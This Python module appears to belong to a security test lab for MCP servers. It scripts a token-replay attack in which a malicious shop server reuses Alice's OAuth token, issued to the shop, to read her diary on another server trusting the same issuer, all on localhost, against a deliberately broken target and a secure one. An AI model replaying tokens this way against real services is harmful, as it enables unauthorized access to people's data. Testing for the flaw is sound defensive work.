"""Steals: Alice's diary, with a token that she gave to another server.

Mallory runs a shop as an MCP server. Alice signs in there, as she does everywhere, so the shop
gets a token with her name in it. Mallory takes it to the server that has Alice's diary, which
trusts the same authorization server. The token says that it is for the shop.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from identity.jwt_tokens import Issuer

from attacks.finding import Finding
from attacks.lab import free_port, wait_until_it_listens
from attacks.target import Refused, Server, call
from attacks.tokens import SHOP

AGAINST = "identity"
CASE = "python-sdk#1435"
IDENTITY = Path(__file__).parent.parent / "identity"
OPEN, SECURE = IDENTITY / "resource_broken.py", IDENTITY / "oauth_server.py"


async def attack(program: Path) -> Finding:
    with publishing() as issuer, started(program, issuer.url) as url:
        # The same token that authorization_server.py makes when Alice has agreed to use the
        # shop.
        token = issuer.token("alice", SHOP, client_id="the shop's", scope="diary")
        server = Server(url, alice="", mallory=token, post_path="/messages/")
        try:
            async with server.open(server.mallory) as stream:
                await stream.initialize()
                await stream.send(call(1, "read_diary"))
                reply = json.loads((await stream.reply(1)).data)
        except Refused as refused:
            return Finding(False, f"with the shop's token, {refused}")
    return Finding(True, f"the shop read: {reply['result']['content'][0]['text']}"[:70])


@contextmanager
def publishing() -> Iterator[Issuer]:
    """An authorization server. Only its public keys are needed here."""

    class Keys(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(json.dumps(issuer.jwks()).encode())

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Keys) as server:
        issuer = Issuer(f"http://127.0.0.1:{server.server_port}")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield issuer
        finally:
            server.shutdown()


@contextmanager
def started(program: Path, issuer: str) -> Iterator[str]:
    """Start a server that trusts this issuer. Yields its URL."""
    port = free_port()
    with tempfile.TemporaryFile("w+b") as printed:
        process = subprocess.Popen(
            [sys.executable, str(program), "--port", str(port)],
            stdin=subprocess.DEVNULL,
            stdout=printed,
            stderr=subprocess.STDOUT,
            env={**os.environ, "OAUTH_ISSUER": issuer},
        )

        def log() -> str:
            size = os.fstat(printed.fileno()).st_size
            return os.pread(printed.fileno(), size, 0).decode("utf-8", "replace")

        try:
            wait_until_it_listens(process, port, log)
            yield f"http://127.0.0.1:{port}"
        finally:
            process.terminate()
            try:
                process.wait(5)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
